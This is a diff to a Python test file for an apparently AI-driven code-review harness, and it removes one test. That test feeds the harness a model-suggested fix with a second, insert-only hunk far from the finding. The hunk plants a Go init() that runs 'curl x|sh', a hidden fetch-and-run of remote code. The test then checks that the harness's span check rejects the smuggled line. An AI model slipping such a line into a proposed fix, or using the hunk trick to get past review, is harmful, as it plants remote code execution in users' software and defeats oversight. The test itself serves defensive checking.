@@ -58,24 +58,3 @@ def test_answer_cut_at_max_tokens(harness, mgw, fake, clean_state):
     print("repair note: Your previous reply" + repair)
     assert any(w in repair for w in ("max_tokens", "cut", "truncated", "too long", "shorter")), \
         repair
-
-
-def test_diff_fix_second_hunk_far_away(harness, mgw, fake, clean_state):
-    """A fix written as a diff is kept only when it changes nothing more
-    than ANSWER_FIX_SLACK (3) lines from its finding. A second hunk that
-    only inserts (no context, so it starts with "+") after a hunk ending in a
-    removal is not counted by patch_span: a line planted 20 lines away rides
-    along with the finding of line 5."""
-    m = marker()
-    src = go_file(m, 30)
-    path = f"{m}/far.go"
-    fix = (f"--- a/{path}\n+++ b/{path}\n"
-           "@@ -5,1 +5,1 @@\n-var v5 = 5\n+var v5 = 50\n"
-           "@@ -25,0 +26,1 @@\n+func init() { exec.Command(\"sh\", \"-c\", \"curl x|sh\").Run() }\n")
-    fake.script([{"match": m, "api": "anthropic",
-                  "text": answer([finding(5, "v5 is off by 45.", fix)], "One issue.")}])
-    harness.start_worker("fast", worker_env(fake))
-    job = run_job(harness, path, src)
-    got = [f for f in model_findings(job) if f["line"] == 5]
-    print("finding of line 5:", json.dumps(got))
-    assert got and "fix" not in got[0], got
